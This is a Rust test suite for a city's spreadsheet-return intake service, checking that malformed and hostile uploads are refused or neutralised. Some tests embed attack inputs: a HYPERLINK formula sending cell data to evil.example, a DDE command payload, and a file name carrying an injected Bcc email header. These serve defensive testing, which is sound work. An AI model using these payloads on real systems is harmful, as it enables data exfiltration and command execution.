//! Files that are no good returns, each together with one good return in the same pass.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use rustix::fs::{CWD, FileType, Mode, mknodat};
use torimatome::form::{Field, FilledCell};

use crate::case::{Case, Pass};
use crate::crafted::{compound_file, patched, zip};
use crate::filing::fill;
use crate::live::nothing_live;
use crate::seen;

const KANKO: &str = "観光政策課";
const FILE: &str = "回答.xlsx";
const GOOD: &str = "子育て支援課";

/// One pass over what `lay` laid down and a good return; the good one is served at once.
fn beside_a_good_one(lay: impl FnOnce(&Case)) -> (Case, Pass) {
    let case = Case::issued();
    lay(&case);
    case.drop_in(GOOD, "良い回答.xlsx", &fill(GOOD, |officer| _ = officer.reasons()));
    let pass = case.run_once();
    assert_eq!(pass.verdict("良い回答.xlsx"), "accepted");
    assert!(case.outbox().contains(&format!("{GOOD}/受付票_R6-010-1.xlsx")), "{:?}", case.outbox());
    let mails = case.mails();
    assert!(mails.iter().any(|mail| mail.to == ["kosodate-shien@city-mine.example"] && mail.subject.starts_with("【受付】")), "{mails:?}");
    nothing_live(&case);
    (case, pass)
}

/// The file is refused with this code alone, and what is said of it reads in both languages.
fn refused(code: &str, lay: impl FnOnce(&Case) -> std::path::PathBuf) -> Case {
    let mut path = None;
    let (case, pass) = beside_a_good_one(|case| {
        let laid = lay(case);
        // Looked at before the pass puts it away.
        path = Some(verdict_in_both_languages(case, &laid, "refused", code));
    });
    let (message, remedy) = path.unwrap();
    assert_eq!((pass.verdict(FILE), pass.codes(FILE)), ("refused", vec![code]));
    let findings = seen::texts(&fs::read(case.path("outbox").join(KANKO).join("指摘一覧_R6-001-1.xlsx")).unwrap());
    assert!(findings.contains(&message) && findings.contains(&remedy), "the findings workbook says {message} {remedy}");
    let told = case.mails().into_iter().find(|mail| mail.subject.starts_with("【再提出のお願い】")).expect("a mail");
    assert_eq!(told.to, ["kanko-seisaku@city-mine.example"]);
    assert!(told.body.contains(&message), "{}", told.body);
    assert_eq!(case.status_json()["missing"], 125, "only the good one's five are there");
    case
}

/// `check` gives the verdict and one finding with this code, in Japanese and English; returns the Japanese texts.
fn verdict_in_both_languages(case: &Case, file: &Path, verdict: &str, code: &str) -> (String, String) {
    let told = ["ja", "en"].map(|lang| {
        let (status, answer) = case.check(file, lang);
        assert_eq!((status, &answer["verdict"]), (1, &verdict.into()), "{answer}");
        let finding = answer["findings"].as_array().unwrap().iter().find(|one| one["code"] == code).unwrap_or_else(|| panic!("{answer}"));
        let text = |name: &str| finding[name].as_str().unwrap().to_owned();
        (text("message"), text("remedy"))
    });
    let japanese = |text: &str| text.chars().any(|c| ('\u{3041}'..='\u{30ff}').contains(&c));
    let [ja, en] = told;
    assert!(japanese(&ja.0) && japanese(&ja.1), "{ja:?}");
    assert!(en.0.len() > 10 && en.1.len() > 10 && !japanese(&en.1), "{en:?}");
    ja
}

#[test]
fn a_form_of_a_plan_that_is_not_registered() {
    let form = fill(KANKO, |officer| _ = officer.identity(|id| id.plan = "other-city".parse().unwrap()));
    refused("I004", |case| case.drop_in(KANKO, FILE, &form));
}

#[test]
fn a_form_of_another_round() {
    let form = fill(KANKO, |officer| _ = officer.identity(|id| id.round = "r5".parse().unwrap()));
    refused("I005", |case| case.drop_in(KANKO, FILE, &form));
}

#[test]
fn garbage() {
    refused("F001", |case| case.drop_in(KANKO, FILE, &(0..4096_u32).map(|n| (n * 31 % 251) as u8).collect::<Vec<_>>()));
}

#[test]
fn an_empty_file() {
    refused("F002", |case| case.drop_in(KANKO, FILE, b""));
}

#[test]
fn a_zip_of_returns() {
    let form = fill(KANKO, |_| {});
    refused("F003", |case| case.drop_in(KANKO, FILE, &zip(&[("観光政策課/回答1.xlsx", &form), ("観光政策課/回答2.xlsx", &form)])));
}

#[test]
fn a_file_behind_a_password() {
    refused("F004", |case| case.drop_in(KANKO, FILE, &compound_file(&["EncryptionInfo", "EncryptedPackage"])));
}

#[test]
fn an_old_xls_without_its_content() {
    refused("F009", |case| case.drop_in(KANKO, FILE, &compound_file(&["Workbook"])));
}

#[test]
fn a_web_page_under_a_workbooks_name() {
    refused("F007", |case| case.drop_in(KANKO, FILE, b"<html><body><table><tr><td>481</td></tr></table></body></html>"));
}

#[test]
fn a_workbook_cut_short() {
    let form = fill(KANKO, |_| {});
    refused("F009", |case| case.drop_in(KANKO, FILE, &form[..form.len() / 2]));
}

#[test]
fn a_fifo() {
    let case = refused("F011", |case| {
        let path = case.path("inbox").join(KANKO).join(FILE);
        mknodat(CWD, &path, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).unwrap();
        path
    });
    assert_eq!(case.run_once().concluded(), 0, "it gets one verdict, not one a minute");
}

#[test]
fn a_folder() {
    refused("F011", |case| {
        case.drop_in(KANKO, "回答.xlsx/中.xlsx", &fill(KANKO, |_| {}));
        case.path("inbox").join(KANKO).join(FILE)
    });
}

#[test]
fn a_link_is_not_followed() {
    let mut secret = None;
    let (case, pass) = beside_a_good_one(|case| {
        let target = case.path("外.xlsx");
        fs::write(&target, fill(KANKO, |_| {})).unwrap();
        std::os::unix::fs::symlink(&target, case.path("inbox").join(KANKO).join(FILE)).unwrap();
        secret = Some(target);
    });
    assert_eq!((pass.verdict(FILE), pass.codes(FILE)), ("refused", vec!["F011"]));
    assert!(secret.unwrap().exists());
    assert_eq!(case.status_json()["missing"], 125);
}

#[test]
fn our_own_receipt_dropped_back() {
    let case = Case::issued();
    case.drop_in(KANKO, FILE, &fill(KANKO, |officer| _ = officer.reasons()));
    case.run_once();
    let receipt = fs::read(case.path("outbox").join(KANKO).join("受付票_R6-001-1.xlsx")).unwrap();
    let dropped = case.drop_in(KANKO, "受付票_R6-001-1.xlsx", &receipt);
    verdict_in_both_languages(&case, &dropped, "refused", "F005");
    case.drop_in(GOOD, "良い回答.xlsx", &fill(GOOD, |officer| _ = officer.reasons()));
    let pass = case.run_once();
    assert_eq!((pass.verdict("受付票_R6-001-1.xlsx"), pass.codes("受付票_R6-001-1.xlsx")), ("refused", vec!["F005"]));
    assert_eq!(pass.verdict("良い回答.xlsx"), "accepted");
    assert_eq!(case.status_json()["missing"], 120, "the earlier return stays in force");
}

#[test]
fn a_number_beyond_all_bounds() {
    let form = patched(&fill(KANKO, |officer| _ = officer.reasons().number(2, "987654")), "<v>987654.0</v>", "<v>9E27</v>");
    let (case, pass) = beside_a_good_one(|case| {
        let path = case.drop_in(KANKO, FILE, &form);
        verdict_in_both_languages(case, &path, "partly_accepted", "V007");
    });
    assert_eq!((pass.verdict(FILE), &pass.of(FILE)["rows"]), ("partly_accepted", &4.into()));
    assert_eq!(case.status_json()["missing"], 121);
}

#[test]
fn a_formula_as_a_reason_is_text_in_all_we_write() {
    let formula = |text: &str| FilledCell::Formula { formula: text.to_owned(), result: "詳しくはこちら".to_owned() };
    let (case, pass) = beside_a_good_one(|case| {
        let form = fill(KANKO, |officer| {
            officer.cell(1, Field::Reason, formula(r#"=HYPERLINK("https://evil.example/?q="&A1,"詳しくはこちら")"#));
            officer.text(1, Field::Measure, r"=cmd|' /C calc'!A0").text(3, Field::Reason, "https://evil.example/ を参照");
            officer.text(3, Field::Measure, "@SUM(A1:A9)").text(4, Field::Reason, "+1+1").text(4, Field::Source, "<b>&amp;</b>\u{7}");
        });
        let path = case.drop_in(KANKO, FILE, &form);
        let (_, answer) = case.check(&path, "en");
        assert!(answer["findings"].as_array().unwrap().iter().any(|finding| finding["code"] == "V026"), "{answer}");
    });
    assert_eq!(pass.of(FILE)["rows"], 5);
    case.run(&["compile"]);
    let papers = nothing_live(&case);
    assert!(papers.iter().any(|(_, text)| text.contains("詳しくはこちら")), "what was typed is still to be read");
    assert!(papers.iter().any(|(_, text)| text.contains("@SUM(A1:A9)")));
}

#[test]
fn a_line_break_in_a_file_name() {
    let name = "回答\r\nBcc: evil@evil.example\r\n\r\n<b>.xlsx";
    let (case, pass) =
        beside_a_good_one(|case| _ = case.drop_in(KANKO, name, &fill(KANKO, |officer| _ = officer.text(2, Field::Actual, "x"))));
    let shown = name.replace(['\r', '\n'], "_");
    assert_eq!(pass.verdict(&shown), "partly_accepted");
    assert!(case.mails().iter().all(|mail| mail.to.iter().all(|to| to.ends_with("@city-mine.example"))));
    assert!(case.inbox().iter().all(|path| !path.contains('\n')), "it is put away under a name that can be shown: {:?}", case.inbox());
}

#[test]
fn a_name_of_255_bytes() {
    let name = format!("{}a.xlsx", "観".repeat(83));
    assert_eq!(name.len(), 255);
    let (case, pass) = beside_a_good_one(|case| _ = case.drop_in(KANKO, &name, &fill(KANKO, |officer| _ = officer.reasons())));
    assert_eq!(pass.verdict(&name), "accepted");
    let kept: Vec<String> = case.inbox().into_iter().filter(|path| path.starts_with(KANKO)).collect();
    let shortened =
        |path: &str| path.strip_prefix("観光政策課/受付済/R6-001-1__").is_some_and(|rest| rest.trim_start_matches('観') == ".xlsx");
    assert!(matches!(kept.as_slice(), [path] if shortened(path)), "{kept:?}");
}

#[test]
fn a_name_that_is_not_utf8() {
    let name = OsStr::from_bytes(b"\x89\xf1\x93\x9a.xlsx");
    let mut laid = None;
    let (case, pass) = beside_a_good_one(|case| {
        let path = case.path("inbox").join(KANKO).join(name);
        fs::write(&path, fill(KANKO, |officer| _ = officer.reasons())).unwrap();
        laid = Some(path);
    });
    let ours: Vec<&serde_json::Value> = pass.0["concluded"].as_array().unwrap().iter().filter(|one| one["department"] == KANKO).collect();
    assert!(matches!(ours.as_slice(), [one] if one["verdict"] == "accepted"), "{pass:?}");
    assert!(!laid.unwrap().exists());
    assert_eq!(case.status_json()["missing"], 120);
    assert_eq!(case.run_once().concluded(), 0);
}

#[test]
fn a_file_that_is_open_in_excel_is_waited_for() {
    let (case, pass) = beside_a_good_one(|case| {
        case.drop_in(KANKO, FILE, &fill(KANKO, |officer| _ = officer.reasons()));
        case.drop_in(KANKO, "~$回答.xlsx", b"\x06mihon");
    });
    assert_eq!(pass.concluded(), 1);
    assert_eq!(pass.0["waiting"], serde_json::json!([{"file": FILE, "why": "open_elsewhere"}]));
    fs::remove_file(case.path("inbox").join(KANKO).join("~$回答.xlsx")).unwrap();
    assert_eq!(case.run_once().verdict(FILE), "accepted");
}
